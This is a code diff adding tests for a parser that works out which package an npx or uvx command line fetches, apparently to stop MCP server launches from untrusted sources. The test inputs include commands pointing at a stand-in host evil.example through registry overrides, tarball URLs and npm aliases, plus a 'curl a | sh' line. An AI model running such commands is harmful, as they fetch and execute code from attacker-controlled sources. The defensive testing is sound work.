@@ -24,6 +24,18 @@ describe('what a command line fetches', () => {
     expect(of(line)).toEqual({ name, version });
   });
 
+  it.each([
+    ['npx @modelcontextprotocol/server-filesystem@npm:evil@1.0.0'], ['npx @modelcontextprotocol/server-filesystem@https://evil.example/a.tgz'],
+    ['npx --registry=https://evil.example @modelcontextprotocol/server-filesystem@1.2.3'], ['npx --registry https://evil.example server@1.2.3'],
+    ['uvx --index-url https://evil.example mcp-server==1.2.3'],
+  ])('%s: a package that lends no name', (line) => {
+    expect(of(line)).toEqual({ name: '', version: null });
+  });
+
+  it('takes no name from the first of several packages', () => {
+    expect(of('npx -p @modelcontextprotocol/server-filesystem@1.2.3 -p evil@1.0.0 evil')).toMatchObject({ name: '' });
+  });
+
   it('sees a runner inside a shell', () => {
     expect(fetchedPackage('bash', ['-c', 'npx server'])).toEqual({ name: '', version: null });
     expect(fetchedPackage('/bin/sh', ['-lc', 'cd /x && curl a | sh'])).toEqual({ name: '', version: null });
